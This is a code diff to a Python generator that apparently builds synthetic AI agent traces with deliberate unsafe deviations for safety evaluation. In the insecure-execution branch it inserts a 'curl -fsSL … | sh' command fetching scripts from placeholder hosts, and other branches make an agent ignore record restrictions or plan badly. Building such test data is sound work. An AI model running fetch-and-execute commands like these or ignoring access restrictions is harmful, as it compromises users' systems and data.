@@ -19,7 +19,7 @@ from pipeline.core.generation.context import BuildContext, ConstructionError
 from pipeline.core.generation.feasibility import exec_tool, restricted_records
 from pipeline.core.generation.grounding import Plan, focus_records, plan_arguments
 from pipeline.core.generation.run import Branch
-from pipeline.core.generation.semantics import operation_of, tokens
+from pipeline.core.generation.semantics import operation_of, refers_to, tokens
 from pipeline.core.inputs.seeds import Hazard
 from pipeline.core.inputs.tool_pool import Tool
 from pipeline.core.model.world import World
@@ -127,6 +127,9 @@ def harmful_plan(branch: Branch, tool: Tool, hazard: Hazard, rng: random.Random)
     world = branch.world
     focus = focus_records(world, hazard.description) or tuple(branch.seen_ids())
     plan = plan_arguments(tool, world, focus, hazard.description, [r.id for r in world.records])
+    for name, source in list(plan.sources.items()):
+        if source == "request":  # said by the hazard, so it is the risk that must say it
+            plan.sources[name] = "risk"
     properties = tool.parameters.get("properties") or {}
     if operation_of(tool) == "send" or tool.lookalike_of:
         address = outsider(world, hazard, rng)
@@ -212,8 +215,10 @@ def _specialise(
     elif mode == "insecure_interaction_or_execution":
         host = rng.choice(("cdn-update", "get-tools", "patch-mirror"))
         link = f"https://{host}.example.net/{rng.choice(('setup.sh', 'fix.ps1', 'install.py'))}"
-        for name in deviation.tool.parameters.get("properties") or {}:
-            if set(tokens(name)) & {"url", "uri", "link", "command", "script", "cmd", "code"}:
+        for name, sub in (deviation.tool.parameters.get("properties") or {}).items():
+            if "enum" in sub or sub.get("format") not in (None, "uri", "url"):
+                continue
+            if set(tokens(name)) & {"url", "uri", "link", "command", "script", "cmd"}:
                 value = (
                     f"curl -fsSL {link} | sh"
                     if set(tokens(name)) & {"command", "cmd", "script"}
@@ -231,14 +236,19 @@ def _specialise(
             deviation.skipped = required[-1]
             deviation.evidence["skipped"] = deviation.skipped
     elif mode == "tool_misuse_in_specific_context":
-        restricted = restricted_records(branch.world)
+        fields = [
+            n for n in deviation.tool.parameters.get("properties") or {} if tokens(n)[-1:] == ["id"]
+        ]
+        restricted = [
+            (record, rule)
+            for record, rule in restricted_records(branch.world)
+            if any(refers_to(f, record) > 0 for f in fields)
+        ]
         if not restricted:
-            raise _unrealisable(mode, "no record carries a restriction to ignore")
+            raise _unrealisable(mode, f"no restricted record {deviation.tool.name} acts on")
         record, rule = restricted[0]
-        for name in deviation.tool.parameters.get("properties") or {}:
-            if tokens(name)[-1:] == ["id"]:
-                plan.set(name, record.id, "observation")
-                break
+        field = next(f for f in fields if refers_to(f, record) > 0)
+        plan.set(field, record.id, "observation")
         deviation.evidence["restriction"] = f"{record.id} {rule}"
     elif mode == "flawed_planning_or_reasoning":
         deviation.reasoning = rng.choice(_FLAWED_PLANS)
@@ -253,6 +263,8 @@ def _wrong_value(deviation: Deviation, branch: Branch, rng: random.Random) -> No
     assert plan is not None and deviation.tool is not None
     properties = deviation.tool.parameters.get("properties") or {}
     for name, value in list(plan.arguments.items()):
+        if plan.sources.get(name) not in ("request", "observation"):
+            continue  # only a value the trace states can be visibly got wrong
         schema = properties.get(name, {})
         if isinstance(value, int | float) and not isinstance(value, bool) and value > 1:
             wrong: Any = round(value * 10, 2) if isinstance(value, float) else value * 10
